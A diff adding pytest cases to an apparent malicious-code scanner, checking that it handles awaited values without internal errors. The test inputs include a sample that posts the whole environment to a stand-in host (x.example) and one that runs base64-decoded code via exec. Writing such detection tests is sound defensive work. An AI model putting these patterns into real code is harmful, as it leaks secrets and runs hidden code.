@@ -36,3 +36,26 @@ def test_pieces_the_fold_does_not_join_are_read_in_source_order(source: str) -> 
 ])
 def test_honest_neighbouring_words_spell_no_payload(source: str) -> None:
     assert not kit.holds(kit.scan_text(source), "subprocess.")
+
+
+@pytest.mark.parametrize("source", [
+    # folded as a path where site data is written (red team 59c's shared-file sink reaches paths.py's fold)
+    "import asyncio, pandas as pd\nasync def where():\n    return '/tmp/x.csv'\n"
+    "async def main():\n    pd.read_csv('/data/site.csv').to_csv(await where())\nasyncio.run(main())\n",
+    # the environment handed on whole
+    "import asyncio, os, requests\nasync def env():\n    return os.environ\n"
+    "async def main():\n    requests.post('https://x.example', json=dict(await env()))\nasyncio.run(main())\n",
+    # a text built for a decoder
+    "import asyncio, base64\nasync def part():\n    return 'cHJpbnQoMSk='\n"
+    "async def main():\n    exec(base64.b64decode(await part()))\nasyncio.run(main())\n",
+])
+def test_an_awaited_value_is_read_not_an_internal_error(source: str) -> None:
+    """libcst's Await holds `expression`, not `value`: three readers asked for `.value` and failed on the file
+    (the corpus' m48 sample after red team 59c's sink began folding an awaited value)."""
+    report = kit.scan_text(source)
+    assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)
+
+
+def test_the_asyncio_sample_has_no_internal_error() -> None:
+    report = kit.scan_sample("malicious/m48_asyncio_subprocess_fetch_run.py")
+    assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)
